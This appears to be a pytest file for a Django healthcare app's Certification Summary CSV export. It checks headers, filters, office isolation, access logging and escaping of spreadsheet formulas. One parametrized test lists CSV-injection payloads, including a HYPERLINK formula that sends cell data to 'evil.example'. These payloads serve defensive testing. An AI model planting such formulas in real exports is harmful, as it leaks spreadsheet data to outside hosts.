"""Certification Summary's CSV export: every case the filters match (all pages) in the screen's
order, the screen's column titles, logged, nothing of another office, and no cell a spreadsheet
would run as a formula."""

import csv
import io
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.urls import reverse

from accounts.models import AccessEvent
from cases.models import Case
from cases.tracking.export import EXPORT_COLUMNS, cell_safe
from cases.tracking.filters import SUMMARY_FILTERS
from tests.cases.tracking.conftest import filters_post, submitted
from tests.factories.eligibility import MemberFactory

pytestmark = pytest.mark.django_db

URL = reverse("cases:certification-summary-export")
SUMMARY_URL = reverse("cases:certification-summary")
ZONE = ZoneInfo(settings.TIME_ZONE)
HEADER = [
    "Authorization Number",
    "Case Number",
    "Member Last Name",
    "Ordering Provider Last Name",
    "Ordering Provider NPI",
    "Status",
    "Case Initiation Date",
    "Procedure Code",
    "Service Description",
    "Site Name",
    "Expiration Date",
]


def export(client, query=""):
    """The export after the filters in `query` were posted on Certification Summary."""
    address = filters_post(client, SUMMARY_URL, query, SUMMARY_FILTERS)
    response = client.get(URL + address)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="certification-summary.csv"'
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_header_is_the_screens_column_titles(office_client, world):
    assert export(office_client) == [HEADER]
    assert [column.label for column in EXPORT_COLUMNS] == HEADER


def test_each_row_holds_what_the_screen_shows(office_client, world):
    case = submitted(world, status=Case.Status.APPROVED)
    pending = submitted(world, status=Case.Status.HOLD)
    rows = export(office_client, "?sort=case_number&dir=asc")
    assert rows[1] == [
        case.authorization_number,
        case.case_number,
        "Winter",
        "Michael",
        "1234567893",
        "Approved",
        case.submitted_at.astimezone(ZONE).strftime("%m/%d/%Y"),
        "73721",
        "MRI LOWER EXTREMITY JOINT W/O",
        "Franklin Imaging Center",
        case.expiration_date.strftime("%m/%d/%Y"),
    ]
    assert rows[2][:2] == ["NA", pending.case_number]
    assert rows[2][5] == "Additional Information Required"
    assert rows[2][10] == ""


def test_all_pages_with_the_same_filters_and_sort(office_client, world):
    approved = [submitted(world) for _ in range(12)]
    denied = submitted(world, status=Case.Status.DENIED)
    rows = export(office_client, "?status=approved&sort=case_number&dir=desc&page=2&per_page=10")
    assert [row[1] for row in rows[1:]] == sorted(
        (case.case_number for case in approved), reverse=True
    )
    assert denied.case_number not in {row[1] for row in rows}


def test_filters_that_are_not_valid_are_left_out_as_on_screen(office_client, world):
    cases = [submitted(world) for _ in range(3)]
    rows = export(office_client, f"?member_last_name={'x' * 500}&per_page=7&sort=evil")
    assert len(rows) == 1 + len(cases)


def test_nothing_of_another_office(office_client, world):
    mine = submitted(world)
    theirs = submitted(world, office=world.outsider.office, user=world.outsider)
    rows = export(office_client)
    assert [row[1] for row in rows[1:]] == [mine.case_number]
    assert export(office_client, f"?q={theirs.case_number}") == [HEADER]


def test_the_export_is_logged_per_member(office_client, world):
    other = MemberFactory(health_plan=world.plan, patient_id="EVG20000001", last_name="Other")
    submitted(world)
    submitted(world)
    submitted(world, member=other)
    export(office_client)
    events = AccessEvent.objects.filter(user=world.user, action=AccessEvent.Action.EXPORT)
    assert sorted(events.values_list("member_id", flat=True)) == sorted([world.member.pk, other.pk])
    assert {event.path for event in events} == {URL}


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTab",
        "\rReturn",
    ],
)
def test_formulas_are_made_harmless(office_client, world, name):
    member = MemberFactory(health_plan=world.plan, patient_id="EVG30000001", last_name=name)
    submitted(world, member=member)
    rows = export(office_client)
    assert rows[1][2] == "'" + name
    assert not rows[1][2].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_cell_safe_leaves_ordinary_values_alone():
    assert cell_safe("O'Brien") == "O'Brien"
    assert cell_safe("Smith-Jones") == "Smith-Jones"
    assert cell_safe(None) == ""
    assert cell_safe("=1") == "'=1"


def test_the_summary_links_to_the_export_with_its_sort_and_its_filters_apply(office_client, world):
    approved = submitted(world)
    submitted(world, status=Case.Status.DENIED)
    filters_post(office_client, SUMMARY_URL, "?status=approved", SUMMARY_FILTERS)
    html = office_client.get(SUMMARY_URL + "?sort=site_name&dir=desc&page=2").content.decode()
    assert f'href="{URL}?sort=site_name&amp;dir=desc"' in html
    rows = export(office_client, "?status=approved")
    assert [row[1] for row in rows[1:]] == [approved.case_number]
